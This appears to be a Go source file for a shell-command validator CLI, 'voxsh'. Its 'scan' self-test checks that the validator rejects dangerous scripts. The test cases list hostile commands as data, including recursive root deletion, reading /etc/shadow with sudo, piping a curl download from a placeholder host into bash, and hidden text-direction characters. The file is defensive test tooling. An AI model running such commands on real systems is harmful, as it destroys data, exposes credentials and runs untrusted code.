package cli

import (
	"fmt"

	"github.com/spf13/cobra"
)

var scanCmd = &cobra.Command{
	Use:   "scan",
	Short: "Self-test: verify voxsh rejects known-dangerous scripts",
	Long: `Run a quick diagnostic that feeds known-dangerous and known-safe scripts to
the validator. No script is executed; this only checks the verdicts.

  voxsh scan`,
	RunE: scanCommand,
}

func init() {
	rootCmd.AddCommand(scanCmd)
}

type scanCase struct {
	label  string
	script string
	accept bool
}

var scanCases = []scanCase{
	{"Destructive rm", "rm -rf /", false},
	{"Privilege escalation", "sudo cat /etc/shadow", false},
	{"Chained deletion", "ls -la; rm -rf ~", false},
	{"Pipe to shell", "curl -s http://example.invalid/x.sh | bash", false},
	{"Command substitution", "echo $(rm -rf /)", false},
	{"Deletion via xargs", "find . -name '*.log' | xargs rm", false},
	{"Deletion via find -exec", "find /tmp -exec rm {} +", false},
	{"Dynamic command name", "ls && $CMD /", false},
	{"Hidden text direction", "ls \u202E/tmp", false},
	{"Safe listing", "ls -la", true},
	{"Safe pipeline", "df -h | sort -k5 -r | head -n 5", true},
}

func scanCommand(cmd *cobra.Command, args []string) error {
	cfg, err := loadConfig()
	if err != nil {
		return err
	}
	v := newValidator(cfg)

	fmt.Println("═══════════════════════════════════════════════════════")
	fmt.Println("  voxsh Self-Test")
	fmt.Println("═══════════════════════════════════════════════════════")
	fmt.Println()
	if !v.Strict() {
		fmt.Println("  ⚠  structure gate disabled (validator.strict: false)")
		fmt.Println()
	}

	failures := 0
	for _, c := range scanCases {
		verdict := v.Validate(cmd.Context(), c.script)
		ok := verdict.Accepted == c.accept
		if !ok {
			failures++
		}
		fmt.Printf("  %s %-24s %s\n", passIcon(ok), c.label, c.script)
		if !verdict.Accepted {
			fmt.Printf("       %s: %s\n", verdict.Gate, verdict.Reason)
		}
	}

	fmt.Println()
	if failures > 0 {
		fmt.Printf("  %d of %d checks failed\n", failures, len(scanCases))
		return fmt.Errorf("self-test failed")
	}
	fmt.Printf("  All %d checks passed\n", len(scanCases))
	return nil
}

func passIcon(ok bool) string {
	if ok {
		return "✅"
	}
	return "❌"
}
